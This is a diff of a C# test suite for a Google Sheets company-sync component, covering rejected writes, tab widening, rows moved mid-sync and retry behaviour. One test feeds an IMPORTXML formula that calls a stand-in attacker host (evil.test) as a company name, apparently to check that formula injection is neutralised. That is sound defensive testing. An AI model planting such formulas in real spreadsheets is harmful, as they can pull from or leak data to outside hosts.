@@ -236,7 +236,7 @@ public sealed class SheetSyncTests : IDisposable
 
         var ex = await Assert.ThrowsAsync<JobSignalException>(() => Sync([Company("1")]));
 
-        Assert.Equal("SheetsHeaderMismatch", ex.ErrorId);
+        Assert.Equal(("SheetsHeaderMismatch", (object?)SpreadsheetId), (ex.ErrorId, ex.Target));
         Assert.Contains("expected 'ID Empresa', found 'Company ID'", ex.Message);
         Assert.Contains("-HeaderLanguage en", ex.Message);
         Assert.Equal(0, ValueWrites + Server.Count(FakeGoogleCall.BatchUpdate));
@@ -269,7 +269,7 @@ public sealed class SheetSyncTests : IDisposable
 
         var ex = await Assert.ThrowsAsync<JobSignalException>(() => Sync([Company("a"), Company("b")]));
 
-        Assert.Equal("SheetsReadFailed", ex.ErrorId);
+        Assert.Equal(("SheetsReadFailed", (object?)SpreadsheetId), (ex.ErrorId, ex.Target));
         Assert.Contains("stopped before writing anything", ex.Message);
         Assert.Equal("SheetsUnavailable", Assert.IsType<SheetsApiException>(ex.InnerException).ErrorId);
         Assert.Equal(0, ValueWrites);
@@ -392,6 +392,47 @@ public sealed class SheetSyncTests : IDisposable
         Assert.Equal(1, Server.Count(write)); // not retried
     }
 
+    [Theory]
+    [InlineData(FakeGoogleCall.ValuesBatchUpdate, "The sync stopped: 1 changed rows were not updated: Google Sheets answered 400")]
+    [InlineData(FakeGoogleCall.ValuesAppend, "The sync stopped: 1 companies were not appended: Google Sheets answered 400")]
+    public async Task A_write_rejected_400_ends_the_sync_without_promising_that_the_next_one_writes_it(FakeGoogleCall write, string message)
+    {
+        var companies = new[] { Company("a", score: 9), Company("b", score: 5), Company("c", score: 1) };
+        await Sync(companies);
+        Tab()["B2"] = "edited by a rep"; // one row to update
+        Tab().DeleteRow(4);              // one company to append
+        Server.ClearRequests();
+        Server.FailNext(write, 400);
+
+        var ex = await Assert.ThrowsAsync<SheetsApiException>(() => Sync(companies));
+
+        Assert.Equal(("SheetsRequestRejected", FailureKind.InvalidArgument, (object?)SpreadsheetId), (ex.ErrorId, ex.Kind, ex.Target));
+        Assert.StartsWith(message, ex.Message);
+        Assert.DoesNotContain("next sync", ex.Message);
+        Assert.Contains("running the command again unchanged fails the same way", ex.RecommendedAction);
+        Assert.Equal(1, Server.Count(write)); // not retried
+        Assert.Empty(_fx.Waits);
+    }
+
+    [Fact]
+    public async Task A_tab_narrower_than_the_layout_is_read_as_it_is_and_widened_before_anything_is_written()
+    {
+        var tab = _fx.Spreadsheet.AddTab("Narrow", columnCount: 10);
+        var options = new SheetSyncOptions { SheetName = "Narrow" };
+
+        var preview = await new SheetSync(_client, SpreadsheetId, options).PreviewAsync(Companies(2));
+        Assert.Equal((true, 2), (preview.WroteHeader, preview.Appended));
+        Assert.Equal(10, tab.ColumnCount);
+
+        var result = await Sync(Companies(2), options);
+
+        Assert.Equal((2, 0), (result.Appended, result.Errors.Count));
+        Assert.Equal(13, tab.ColumnCount);
+        Assert.Equal(SheetLayout.Spanish.Headers, tab.Row(1));
+        Assert.Equal("Empresa 2 S.L.", tab["B2"]);
+        Assert.Equal(1, tab.FrozenRowCount);
+    }
+
     [Fact]
     public async Task A_refused_setup_of_a_hand_made_tab_ends_the_sync_before_writing_rows()
     {
@@ -416,8 +457,9 @@ public sealed class SheetSyncTests : IDisposable
         var second = await Sync(companies);
         Assert.Equal((1000, 2), (second.Unchanged, second.Requests));
 
+        // The tab, the read, the key column checked again before the write, the write.
         var third = await Sync(companies.Select(c => c with { OfferCount = c.OfferCount + 1 }));
-        Assert.Equal((1000, 1000, 3), (third.Updated, third.UpdatedCells, third.Requests));
+        Assert.Equal((1000, 1000, 4), (third.Updated, third.UpdatedCells, third.Requests));
 
         // With a small budget the same work is split, every body staying under it.
         Server.ClearRequests();
@@ -427,7 +469,7 @@ public sealed class SheetSyncTests : IDisposable
         Assert.Equal(1000, fourth.Updated);
         Assert.InRange(writes.Count, 4, 20);
         Assert.All(writes, w => Assert.True(w.BodyBytes <= options.MaxRequestBytes, $"{w.BodyBytes} bytes"));
-        Assert.Equal(2 + writes.Count, fourth.Requests);
+        Assert.Equal(2 + 2 * writes.Count, fourth.Requests);
         Assert.Equal(1001, Tab().LastDataRow);
     }
 
@@ -460,6 +502,97 @@ public sealed class SheetSyncTests : IDisposable
 
         Server.ClearRequests();
         Assert.Equal(1, (await Sync([Company("1", name: "=IMPORTXML(\"http://evil.test\",\"//a\")", category: "+34 600", evidence: "2024-01-01")])).Unchanged);
+        Assert.Equal(0, ValueWrites);
+    }
+
+    /// <summary>Each row holds its own company's name and activity: no system cell was written onto another company's row.</summary>
+    private static void AssertEveryRowHoldsItsCompany(FakeSheetTab tab, IEnumerable<SheetCompany> companies)
+    {
+        var byId = companies.ToDictionary(c => c.CompanyId);
+        for (var row = 2; row <= tab.LastDataRow; row++)
+        {
+            var company = byId[(string)tab[$"A{row}"]!];
+            Assert.Equal((company.Name, (double)company.OfferCount), (tab[$"B{row}"], tab[$"G{row}"]));
+        }
+    }
+
+    /// <summary>Five companies synced, then more activity for each in the store: the next sync has five rows to update.</summary>
+    private async Task<(List<SheetCompany> Companies, FakeSheetTab Tab)> FiveRowsToUpdate()
+    {
+        var companies = Enumerable.Range(1, 5).Select(i => Company("c" + i, score: 10 - i, activity: 10 * i)).ToList();
+        await Sync(companies);
+        return (companies.Select(c => c with { OfferCount = c.OfferCount + 1 }).ToList(), Tab());
+    }
+
+    [Fact]
+    public async Task A_row_deleted_right_after_the_read_moves_no_write_onto_another_company_the_sync_plans_again()
+    {
+        var (companies, tab) = await FiveRowsToUpdate();
+        var deleted = false;
+        Server.Answered += request =>
+        {
+            if (deleted || request.Call != FakeGoogleCall.ValuesBatchGet) return;
+            deleted = true;
+            tab.DeleteRow(2); // company c1, right after the sync read the tab
+        };
+        Server.ClearRequests();
+
+        var result = await Sync(companies);
+
+        Assert.Empty(result.Errors);
+        Assert.Equal((4, 1), (result.Updated, result.Appended));
+        AssertEveryRowHoldsItsCompany(tab, companies);
+        Assert.Equal(new object?[] { "c2", "c3", "c4", "c5", "c1" }, tab.ColumnValues("A"));
+        // The read, the check that found the rows moved, the fresh read, the check before the write.
+        Assert.Equal(4, Server.Count(FakeGoogleCall.ValuesBatchGet));
+    }
+
+    [Fact]
+    public async Task Rows_sorted_during_the_back_off_of_an_update_are_checked_again_before_the_retry()
+    {
+        var (companies, tab) = await FiveRowsToUpdate();
+        var told = new List<string>();
+        _client.Retrying += told.Add;
+        Server.FailNext(FakeGoogleCall.ValuesBatchUpdate, 429, retryAfterSeconds: 3);
+        var sorted = false;
+        Server.Answered += request =>
+        {
+            if (sorted || request.Status != 429) return;
+            sorted = true;
+            // A rep sorts the rows by id, descending, while the sync waits.
+            var rows = Enumerable.Range(2, 5).Select(r => tab.Row(r).ToArray()).OrderByDescending(r => (string?)r[0]).ToList();
+            for (var i = 0; i < rows.Count; i++) tab.SetRow(i + 2, rows[i]);
+        };
+
+        var result = await Sync(companies);
+
+        Assert.True(sorted);
+        Assert.Empty(result.Errors);
+        Assert.Equal(5, result.Updated);
+        AssertEveryRowHoldsItsCompany(tab, companies);
+        Assert.Equal(new object?[] { "c5", "c4", "c3", "c2", "c1" }, tab.ColumnValues("A"));
+        Assert.Equal(1, result.Retries);
+        Assert.Contains(TimeSpan.FromSeconds(3), _fx.Waits);
+        Assert.Equal("values.batchUpdate failed (SheetsRateLimited, 429): retry 1 of 4 in 3 s, as Google's Retry-After asked.",
+            Assert.Single(told));
+    }
+
+    [Fact]
+    public async Task A_tab_whose_rows_keep_moving_stops_with_SheetsChangedDuringSync_before_any_misaddressed_write()
+    {
+        var (companies, tab) = await FiveRowsToUpdate();
+        Server.ClearRequests();
+        Server.Answered += request =>
+        {
+            if (request.Call == FakeGoogleCall.ValuesBatchGet) tab.DeleteRow(2);
+        };
+
+        var ex = await Assert.ThrowsAsync<JobSignalException>(() => Sync(companies));
+
+        Assert.Equal((SheetSync.ChangedErrorId, (object?)SpreadsheetId), (ex.ErrorId, ex.Target));
+        Assert.Contains("while they were planned and checked 3 times", ex.Message);
+        Assert.Contains("no row was written at a position that had moved", ex.Message);
+        Assert.Contains("Run the command again", ex.RecommendedAction);
         Assert.Equal(0, ValueWrites);
     }
 }
